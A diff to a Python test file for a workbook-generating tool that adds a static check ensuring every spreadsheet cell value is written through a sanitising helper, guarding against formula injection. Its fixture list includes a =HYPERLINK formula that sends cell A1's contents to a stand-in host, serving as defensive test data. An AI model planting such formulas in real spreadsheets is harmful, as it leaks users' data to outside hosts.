@@ -6,6 +6,7 @@ holds no <f> for them, and reading back gives the text exactly as given.
 
 from __future__ import annotations
 
+import ast
 import io
 import re
 import zipfile
@@ -21,6 +22,8 @@ from dossier.readers.register import read_register
 from dossier.rules import load_edition
 from dossier.scoring import score_unit
 from dossier.workbooks import put, write_lke_template, write_register
+
+from .conftest import REPO
 
 HOSTILE = [
     '=HYPERLINK("http://x.example/?"&A1,"klik")',
@@ -120,3 +123,45 @@ def test_hostile_names_from_the_register_stay_text_in_the_recap_workbook():
     assert [row[1] for row in rows] == HOSTILE  # Nama Unit
     assert [row[2] for row in rows] == HOSTILE  # Jenis Unit
     assert MINISTRY in ws.cell(1, 1).value
+
+
+# Where a cell's value may be set otherwise: cells.put itself, our own formulas (built from the edition), and the
+# readers, which write no workbook (the official form's reader sets `.value` on its own lines).
+VALUE_WRITERS = ("dossier/cells.py", "dossier/lke_formulas.py", "dossier/readers/")
+
+
+def cell_writes(source: str) -> list[int]:
+    """The lines of `source` that set a cell's value other than through cells.put: `ws.cell(row, column, value)`,
+    `ws.cell(..., value=...)`, `x.value = ...` and `ws["A1"] = ...`."""
+
+    found = []
+    for node in ast.walk(ast.parse(source)):
+        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "cell" and (
+                len(node.args) == 3 or any(k.arg == "value" for k in node.keywords)):
+            found.append(node.lineno)
+        elif isinstance(node, (ast.Assign, ast.AugAssign)):
+            targets = node.targets if isinstance(node, ast.Assign) else [node.target]
+            for target in targets:
+                if isinstance(target, ast.Attribute) and target.attr == "value" or isinstance(target, ast.Subscript) \
+                        and isinstance(target.slice, ast.Constant) and re.fullmatch(r"[A-Z]{1,3}[0-9]+", str(target.slice.value)):
+                    found.append(node.lineno)
+    return sorted(found)
+
+
+def test_every_cell_value_dossier_writes_goes_through_put():
+    """Regression, in the mechanism: `init --year` carried an office's own column forward with ws.cell(r, c, value)
+    and the web's attach wrote a Bukti Dukung cell with `.value =`: text typed as '=HYPERLINK(...)' came back a
+    live formula. Every value is written by cells.put, which keeps text text, whoever writes it next."""
+    package = REPO / "dossier"
+    offending = {}
+    for path in sorted(package.rglob("*.py")):
+        rel = path.relative_to(REPO).as_posix()
+        if not rel.startswith(VALUE_WRITERS) and (lines := cell_writes(path.read_text(encoding="utf-8"))):
+            offending[rel] = lines
+    assert offending == {}
+
+
+def test_the_check_finds_each_way_of_writing_a_cell():
+    source = ('ws.cell(1, 2, v)\nws.cell(row=1, column=2, value=v)\nc.value = v\nws["A1"] = v\nc.value += v\n'
+              'ws.cell(1, 2).font = f\nx = ws.cell(1, 2).value\nd["k"] = v\nself.cell(tr, table, el, span)\n')
+    assert cell_writes(source) == [1, 2, 3, 4, 5]
